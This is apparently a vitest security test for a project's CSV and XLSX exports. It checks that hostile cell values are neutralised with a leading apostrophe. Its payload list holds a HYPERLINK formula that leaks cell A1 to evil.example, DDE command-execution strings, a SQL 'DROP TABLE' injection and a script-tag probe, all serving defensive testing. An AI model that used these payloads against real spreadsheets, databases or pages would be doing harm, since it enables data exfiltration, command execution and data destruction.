import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { Profile, Template } from '@bitterroot/contracts';
import { testProfile } from '../../../test/test-profile.ts';
import { findingsTable, toCsv, toXlsx } from '../ingestion/findings-export.ts';
import type { FindingRow } from '../ingestion/batch.repository.ts';
import { extractText } from './extract-file.ts';

// Formula injection (issue 9 security tests, OWASP "CSV injection"): for every column of every template of the
// Montana profile, a hostile value in that column comes out of each spreadsheet export — the CSV extract, and
// the findings CSV and XLSX that quote rejected values back — as inert text. A cell a spreadsheet would run
// (leading =, +, -, @, tab or carriage return) starts with an apostrophe; everything else is unchanged.

/** Values a district could type or upload into any field. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "Robert'); DROP TABLE student;--",
  '<script>alert(1)</script>',
  '"=1+1"',
];

const FORMULA_START = /^[=+\-@\t\r]/;
/** What a safe export holds for a value: the value itself, or the value behind an apostrophe. */
const safeFormOf = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);

/** RFC 4180 reading of the exports' CSV (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

async function extractCsv(template: Template, rows: string[][]): Promise<string[][]> {
  async function* pages() {
    yield rows;
  }
  let text = '';
  for await (const chunk of extractText(template, 'csv', pages(), new Date(2025, 8, 1))) text += chunk;
  return parseCsv(text).slice(1);
}

/** Every (column, payload) pair of a template, as one row each with the payload in that column. */
function hostileRows(template: Template) {
  return template.columns.flatMap((column, index) =>
    PAYLOADS.map((payload) => ({
      column,
      payload,
      cells: template.columns.map((_, i) => (i === index ? payload : 'ok')),
    })),
  );
}

async function xlsxRows(stream: Readable): Promise<string[][]> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
  const out: string[][] = [];
  workbook.worksheets[0]!.eachRow((row, n) => {
    if (n === 1) return;
    const cells: string[] = [];
    // A formula cell reads back as an object with `formula`: it must never be one.
    row.eachCell({ includeEmpty: true }, (cell) => {
      expect(cell.type, `cell ${cell.address} is plain data`).not.toBe(ExcelJS.ValueType.Formula);
      cells.push(cell.value === null ? '' : String(cell.value as string | number));
    });
    out.push(cells);
  });
  return out;
}

const profile: Profile = await testProfile();
const TEMPLATES = profile.templates.map((t) => [t.id]);

describe('exports of every template field are formula-injection safe', () => {
  it('covers every template of the profile', () => {
    expect(profile.templates.length).toBeGreaterThanOrEqual(20);
  });

  it.each(TEMPLATES)('%s: the CSV extract', async (id) => {
    const template = profile.templates.find((t) => t.id === id)!;
    const cases = hostileRows(template);
    const read = await extractCsv(
      template,
      cases.map((c) => c.cells),
    );
    expect(read).toHaveLength(cases.length);
    cases.forEach((c, n) => {
      const index = template.columns.indexOf(c.column);
      const cell = read[n]![index]!;
      expect(cell, `${id}.${c.column.key} ← ${JSON.stringify(c.payload)}`).toBe(safeFormOf(c.payload));
      expect(FORMULA_START.test(cell)).toBe(false);
    });
  });

  it.each(TEMPLATES)('%s: the findings CSV and XLSX that quote a rejected value', async (id) => {
    const template = profile.templates.find((t) => t.id === id)!;
    const findings: FindingRow[] = hostileRows(template).map((c, n) => ({
      line: n + 2,
      column: c.column.key,
      field: c.column.label,
      value: c.payload,
      code: 'FLD-FORMAT',
      severity: 'fatal',
      message: c.payload,
      fix: `Check ${c.column.label}: ${c.payload}`,
    }));
    const table = findingsTable(findings);
    const [csv, xlsx] = [parseCsv(toCsv(table)).slice(1), await xlsxRows(Readable.from(toXlsx(table)))];
    // XML stores a carriage return as a line feed, so the workbook is compared with line ends made one.
    const lf = (s: string) => s.replace(/\r\n?/g, '\n');
    for (const [rows, same] of [
      [csv, (s: string) => s],
      [xlsx, lf],
    ] as const) {
      expect(rows).toHaveLength(findings.length);
      rows.forEach((cells, n) => {
        const f = findings[n]!;
        const where = `${id}.${f.column} ← ${JSON.stringify(f.value)}`;
        expect(cells[3], where).toBe(same(safeFormOf(f.value!)));
        expect(cells[6], where).toBe(same(safeFormOf(f.message)));
        for (const cell of cells) expect(FORMULA_START.test(cell), where).toBe(false);
      });
    }
  });
});
